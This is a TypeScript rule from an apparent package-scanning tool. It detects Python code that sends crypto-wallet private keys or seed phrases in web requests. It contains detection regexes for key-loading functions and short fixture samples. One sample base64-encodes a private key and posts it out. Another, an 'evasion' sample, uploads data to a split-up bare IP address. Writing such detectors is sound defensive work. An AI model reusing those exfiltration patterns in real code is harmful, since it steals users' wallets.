import { deedsOf } from "../behaviour/trace.ts";
import type { Detector } from "../detector.ts";
import type { SourceFile } from "../model.ts";
import { codeWith, sight } from "./_sight.ts";

const WORDS = [
  "from_key",
  "from_secret_key",
  "from_base58_string",
  "from_mnemonic",
  "fromseed",
  "from_seed",
  "privatekeytoaccount",
  "bip39",
  "mnemonic",
] as const;
/** What only a private key or a seed phrase is given to. */
const LOADS =
  /(?:\.from_key|\.from_secret_key|\.from_base58_string|\.from_mnemonic|\.from_private_key|SeedGenerator|privateKeyToAccount|mnemonic_to_seed|\.IsValid|\.to_seed)\(\s{0,4}([A-Za-z_]\w{0,80})\s{0,4}[,)]/g;
/** A public address without a name: no service that deals with accounts has one. */
const RAW_ADDRESS =
  /https?:\/\/(?!127\.|0\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)\d{1,3}(?:\.\d{1,3}){3}(?=[:/\s]|$)/;
/** Names taken from a file, and how often a value is followed from name to name. */
const MOST = 40;
const STEPS = 3;

export const sendsSigningKey: Detector = {
  id: "sends-signing-key",
  title: "What accounts are made of, a key or a seed phrase, is put into a request",
  severity: "critical",
  ecosystems: ["pypi"],
  points: 5.8,
  class: "threat",
  group: "exfiltration",
  why: `The same variable is given to a function that makes a wallet's account from a private key or seed phrase, and to a request. Whoever
gets it owns the wallet. The name of the variable does not matter, nor what it is encoded in. So does, in code that makes accounts, a request
to an address without a name: no service for accounts has one.

Libraries derive addresses and signatures and send those.`,
  literals: WORDS,
  *detect(tree) {
    for (const file of codeWith(tree, WORDS)) {
      if (file.kind !== "python") continue;
      const sent = deedsOf(file, "upload");
      const keys = sent.length === 0 ? new Set<string>() : keysOf(file);
      if (keys.size === 0) continue;
      const raw = sent.find((deed) => RAW_ADDRESS.test(deed.text));
      if (raw !== undefined)
        yield sight(
          file,
          raw.offset,
          `makes accounts of seed phrases and calls ${raw.what} with an address without a name`,
          {
            phase: raw.phase,
            share: 0.97,
          },
        );
      for (const deed of sent) {
        const key = (deed.words.match(/(?<![\w.'"])[A-Za-z_]\w{0,80}(?![\w'"]|\s{0,2}[=(.])/g) ?? []).find((name) =>
          keys.has(name),
        );
        if (key === undefined) continue;
        yield sight(file, deed.offset, `${deed.what} sends ${key}, of which accounts are made`, { phase: deed.phase });
      }
    }
  },
  examples: {
    matches: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import requests, base64\nfrom eth_account import Account\ndef check(k, url):\n    a = Account.from_key(k)\n    body = {'id': a.address, 'sig': base64.b64encode(k.encode())}\n    requests.post(url, json=body)\n",
        },
      },
    ],
    passes: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import requests\nfrom eth_account import Account\ndef send(k, url, tx):\n    a = Account.from_key(k)\n    s = a.sign_transaction(tx)\n    body = {'id': a.address, 'tx': s}\n    requests.post(url, json=body)\n",
        },
      },
    ],
    evasions: [
      {
        ecosystem: "pypi",
        files: {
          "demo/a.py":
            "import requests\nfrom eth_account import Account\nU = 'http:' '//198.51.100.7/v'\ndef check(k):\n    m = name(k)\n    requests.post(U, files={'f': open(m)})\n    return Account.from_key(k)\n",
        },
      },
    ],
  },
};

/** Names that hold a key, and tables with such a name among their values. */
function keysOf({ text }: SourceFile): ReadonlySet<string> {
  const keys = new Set<string>();
  for (const match of text.matchAll(LOADS)) {
    keys.add(match[1]!);
    if (keys.size >= MOST) break;
  }
  const tables = [
    ...text.matchAll(/(?:^|\n)[ \t]{0,40}([A-Za-z_]\w{0,80})[ \t]{0,4}=[ \t]{0,4}\{([^{}]{1,1500})\}/g),
  ].slice(0, 200);
  for (let step = 0; step < STEPS; step++) {
    for (const [, name, values] of tables) {
      const used = values!.match(/:\s{0,10}[^,\n]{0,300}/g) ?? [];
      // The key itself or an encoding of it; `account.address` is another thing.
      if (
        used.some((value) =>
          [...keys].some((key) => new RegExp(`(?<![\\w.'"])${key}(?![\\w'"])(?!\\.(?!encode|hex|strip))`).test(value)),
        )
      )
        keys.add(name!);
    }
  }
  return keys;
}
